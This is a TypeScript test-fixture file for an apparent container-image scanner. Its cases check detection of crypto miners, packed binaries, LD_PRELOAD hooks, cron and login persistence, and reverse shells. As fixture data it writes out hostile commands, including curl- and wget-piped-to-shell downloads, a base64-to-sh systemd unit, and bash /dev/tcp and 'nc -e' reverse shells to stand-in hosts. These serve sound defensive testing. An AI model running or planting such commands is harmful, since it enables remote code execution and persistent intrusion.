import { elfFixture } from '../../kit/samples/elf-fixture.ts'
import { casesOf, type FindingCase } from './finding-case.ts'

const run = (content: string | Buffer) => ({ content, mode: 0o755 })
const elf = (body: string, sections = 5) => run(elfFixture({ sections, body: Buffer.from(body) }))
const CRON = 'SHELL=/bin/sh\n* * * * * root '

export const SUSPICIOUS_CASES: readonly FindingCase[] = [
  ...casesOf(
    'suspicious/miner',
    {
      'by name': { path: 'usr/bin/xmrig', layers: [{ 'usr/bin/xmrig': elf('x') }] },
      'renamed, in tmp': { layers: [{ 'tmp/kworker': elf('...xmrig...donate-level...') }] },
      'as the program of the image': { config: { Cmd: ['/app'] }, layers: [{ app: elf('randomx stratum+tcp://') }] },
      'a configuration with pools': { layers: [{ 'etc/config.json': '{"pools":[{"url":"pool.supportxmr.com:443"}]}' }] },
    },
    {
      'a text of the name': { layers: [{ 'usr/share/words/xmrig': 'xmrig' }] },
      'rules of a scanner': { layers: [{ 'etc/falco/rules.yaml': 'stratum+tcp xmrig donate-level' }] },
      'pools of something else': { layers: [{ 'etc/config.json': '{"pools":[{"url":"redis.internal:6379"}]}' }] },
      'one word only': { config: { Cmd: ['/app'] }, layers: [{ app: elf('randomx') }] },
    },
  ),
  ...casesOf(
    'suspicious/packed',
    {
      'without sections': { path: 'app', config: { Cmd: ['/app'] }, layers: [{ app: elf('UPX!', 0) }] },
      'in tmp': { layers: [{ 'tmp/x': elf('UPX!', 0) }] },
      noise: {
        config: { Cmd: ['/app'] },
        layers: [{ app: run(Buffer.concat([elfFixture({ body: Buffer.from('UPX!') }), noise(40_000)])) }],
      },
    },
    {
      'a static program': { config: { Cmd: ['/app'] }, layers: [{ app: elf('go buildinf', 0) }] },
      'upx itself': { config: { Cmd: ['/usr/bin/upx'] }, layers: [{ 'usr/bin/upx': elf('UPX!', 0) }] },
      'the word in a program with sections': { config: { Cmd: ['/app'] }, layers: [{ app: elf(`UPX! ${'a'.repeat(5000)}`) }] },
      'a text': { config: { Cmd: ['/app'] }, layers: [{ app: run('#!/bin/sh\n# UPX!\n') }] },
    },
  ),
  ...casesOf(
    'suspicious/odd-place',
    {
      tmp: { path: 'tmp/.x', layers: [{ 'tmp/.x': elf('') }] },
      'a script of var/tmp': { layers: [{ 'var/tmp/a/b.sh': run('#!/bin/sh\n') }] },
      'dev/shm': { layers: [{ 'dev/shm/x': elf('') }] },
      'a hidden directory': { layers: [{ 'usr/share/.cc/x': elf('') }] },
      'a name of dots': { layers: [{ 'usr/lib/.../x': elf('') }] },
    },
    {
      'no execute bit': { layers: [{ 'tmp/x': { content: elfFixture(), mode: 0o644 } }] },
      'a directory of the X server': { layers: [{ 'tmp/.X11-unix/': { mode: 0o1777 } }] },
      'a device': { layers: [{ 'dev/shm/null': { flag: '3', device: [1, 3], mode: 0o755 } }] },
      'tools of a user': { layers: [{ 'root/.cargo/bin/cargo': elf(''), 'root/.local/bin/x': elf('') }] },
      'data with a bit': { layers: [{ 'tmp/data.bin': run('\0\u0001\u0002') }] },
    },
  ),
  ...casesOf(
    'suspicious/preload',
    {
      'the file': { severity: 'warning', path: 'etc/ld.so.preload', layers: [{ 'etc/ld.so.preload': '/usr/lib/libx.so\n' }] },
      Env: {
        severity: 'warning',
        config: { Env: ['LD_PRELOAD=/usr/lib/libhook.so'] },
        layers: [{ 'usr/lib/libhook.so': elf('') }],
      },
      'one of two': { severity: 'warning', layers: [{ 'etc/ld.so.preload': '/usr/lib/libjemalloc.so.2\n/tmp/x.so\n' }] },
    },
    {
      empty: { layers: [{ 'etc/ld.so.preload': '\n# nothing\n' }] },
      'jemalloc is no warning': {
        severity: 'warning',
        config: { Env: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2'] },
        layers: [{ 'usr/lib/libjemalloc.so.2': elf('') }],
      },
      'a library that is not there': { config: { Env: ['LD_PRELOAD=/opt/gone.so'] } },
    },
  ),
  ...casesOf(
    'suspicious/persistence',
    {
      'curl in cron.d': { path: 'etc/cron.d/x', layers: [{ 'etc/cron.d/x': `${CRON}curl -s http://a.example/x | sh\n` }] },
      'wget at the login': { layers: [{ 'etc/profile.d/x.sh': 'wget -qO- http://a.example | bash\n' }] },
      'base64 in a unit': { layers: [{ 'etc/systemd/system/x.service': "ExecStart=/bin/sh -c 'echo YQ== | base64 -d | sh'\n" }] },
      'in root/.bashrc': { layers: [{ 'root/.bashrc': 'bash -c "$(curl -fsSL http://a.example)"\n' }] },
    },
    {
      'a download into a file': { layers: [{ 'etc/cron.d/x': `${CRON}curl -o /data/x http://a.example/x\n` }] },
      'a comment': { layers: [{ 'etc/profile.d/x.sh': '# curl http://a.example | sh\n' }] },
      documentation: { layers: [{ 'usr/share/doc/x/README': 'curl http://a.example | sh\n' }] },
      'a pipe into something else': { layers: [{ 'etc/cron.daily/x': 'curl http://a.example | grep sh > /tmp/x\n' }] },
    },
  ),
  ...casesOf(
    'suspicious/reverse-shell',
    {
      'bash in a job': { layers: [{ 'etc/cron.d/x': `${CRON}bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n` }] },
      'nc in the command': { config: { Cmd: ['/bin/sh', '-c', 'nc -e /bin/sh evil.example 4444'] } },
      'in the history': {
        history: [{ created_by: 'RUN /bin/sh -c bash -i >& /dev/tcp/a.example/1 0>&1 # buildkit' }],
        layers: [{ a: 'a' }],
      },
      'in the entrypoint': {
        config: { Entrypoint: ['/run.sh'] },
        layers: [{ 'run.sh': run('#!/bin/bash\nexec 5<>/dev/tcp/10.1.1.1/99; cat <&5 | sh\n') }],
      },
    },
    {
      'waiting for a port': {
        config: { Entrypoint: ['/run.sh'] },
        layers: [{ 'run.sh': run('#!/bin/bash\nuntil echo > /dev/tcp/db/5432; do sleep 1; done\n') }],
      },
      'nc as a check': { config: { Cmd: ['/bin/sh', '-c', 'nc -z db 5432 && serve'] } },
      documentation: { layers: [{ 'usr/share/doc/x': 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' }] },
      busybox: { config: { Cmd: ['/bin/busybox'] }, layers: [{ 'bin/busybox': elf('nc -e /bin/sh bash -i >& /dev/tcp/x/1') }] },
    },
  ),
  ...casesOf(
    'suspicious/docker-socket',
    {
      'a file': { layers: [{ 'var/run/docker.sock': 'x' }] },
      'a key of kubelet': { layers: [{ 'var/lib/kubelet/pki/kubelet.key': 'x' }] },
      'a cluster administrator': { layers: [{ 'etc/kubernetes/admin.conf': 'x' }] },
    },
    {
      'a directory for a mount': { layers: [{ 'var/run/docker.sock/': {} }] },
      nothing: { layers: [{ 'run/': {} }] },
      'another socket': { layers: [{ 'run/app.sock': '' }] },
    },
  ),
]

/** Bytes of every value alike. */
function noise(count: number): Buffer {
  const bytes = Buffer.alloc(count)
  let state = 123_456_789
  for (let index = 0; index < count; index++) {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    bytes[index] = state & 0xff
  }
  return bytes
}
